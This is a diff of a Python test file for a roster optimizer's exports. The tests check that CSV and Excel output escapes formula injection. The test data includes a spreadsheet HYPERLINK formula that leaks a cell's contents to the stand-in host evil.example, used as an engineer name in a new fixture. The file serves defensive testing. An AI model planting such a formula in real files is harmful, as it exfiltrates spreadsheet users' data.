@@ -13,9 +13,22 @@ from openpyxl import load_workbook
 from optimizer.domain.roster import Roster
 from optimizer.io.roster_export import roster_to_csv_text, roster_to_xlsx_bytes
 from optimizer.io.tables import csv_text, safe_cell, unescape_cell
-from service.exports import plan_csv, roster_csv, roster_xlsx
+from service.exports import export, plan_csv
+from tests.unit.test_roster_helpers import DAY, engineer, request, solved
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+@pytest.fixture(scope="module")
+def evil_roster() -> Roster:
+    """A week solved for one engineer whose name is a formula, on a template named ``=day``
+    (names come from the master data, which anyone with the head's key may type)."""
+    return solved(
+        request(
+            engineers=[engineer("a", name=EVIL)],
+            shift_templates=[DAY.model_copy(update={"name": "=day"})],
+        )
+    )
 
 
 @pytest.mark.parametrize(
@@ -46,13 +59,14 @@ def test_the_command_line_csv_writer_escapes_every_cell() -> None:
     assert rows[1] == ["t1", "'" + EVIL]
 
 
-def test_the_service_plan_and_roster_csv_escape_formulas() -> None:
+def test_the_service_plan_and_roster_csv_escape_formulas(evil_roster: Roster) -> None:
     plan = {"assignments": [{"ticket_id": EVIL, "engineer_id": "@x", "slack_min": -5}]}
     rows = list(csv.DictReader(io.StringIO(plan_csv(plan))))
     assert rows[0]["ticket_id"] == "'" + EVIL and rows[0]["engineer_id"] == "'@x"
     assert rows[0]["slack_min"] == "-5"
-    roster = {"assignments": [{"engineer_id": "+e1", "date": "2026-12-01", "template_id": "d"}]}
-    assert list(csv.DictReader(io.StringIO(roster_csv(roster))))[0]["engineer_id"] == "'+e1"
+    file = export("roster", evil_roster.model_dump(mode="json"), "csv", "job")
+    rows = list(csv.DictReader(io.StringIO(bytes(file.body).decode("utf-8-sig"))))
+    assert rows and all(r["engineer"] == "'" + EVIL and r["template"] == "'=day" for r in rows)
 
 
 def _cells(data: bytes) -> list[tuple[object, str]]:
@@ -60,32 +74,17 @@ def _cells(data: bytes) -> list[tuple[object, str]]:
     return [(c.value, c.data_type) for ws in wb.worksheets for row in ws.iter_rows() for c in row]
 
 
-def test_the_service_roster_workbook_holds_no_formula() -> None:
-    roster = {
-        "assignments": [{"engineer_id": EVIL, "date": "2026-12-01", "template_id": "=t"}],
-        "shortfall": [{"start": "x", "end": "y", "group": "=1+1", "short_by": 1}],
-    }
-    cells = _cells(roster_xlsx(roster))
+def test_the_service_roster_workbook_holds_no_formula(evil_roster: Roster) -> None:
+    file = export("roster", evil_roster.model_dump(mode="json"), "xlsx", "job")
+    cells = _cells(bytes(file.body))
     assert all(kind != "f" for _, kind in cells)
-    assert "'" + EVIL in [v for v, _ in cells] and "'=1+1" in [v for v, _ in cells]
+    values = [v for v, _ in cells]
+    assert "'" + EVIL in values and "'=day" in values
 
 
-def test_the_command_line_roster_exports_hold_no_formula() -> None:
-    roster = Roster.model_validate(
-        {
-            "start": "2026-12-01",
-            "end": "2026-12-01",
-            "status": "OPTIMAL",
-            "solver": {"status": "OPTIMAL"},
-            "engineers": {"e1": EVIL},
-            "templates": {"d": "=day"},
-            "assignments": [
-                {"engineer_id": "e1", "date": "2026-12-01", "day": 0, "template_id": "d"}
-            ],
-        }
-    )
-    text = roster_to_csv_text(roster)
+def test_the_command_line_roster_exports_hold_no_formula(evil_roster: Roster) -> None:
+    text = roster_to_csv_text(evil_roster)
     assert "'" + EVIL.replace('"', '""') in text and ",'=day," in text
-    cells = _cells(roster_to_xlsx_bytes(roster))
+    cells = _cells(roster_to_xlsx_bytes(evil_roster))
     assert all(kind != "f" for _, kind in cells)
     assert "'" + EVIL in [v for v, _ in cells]
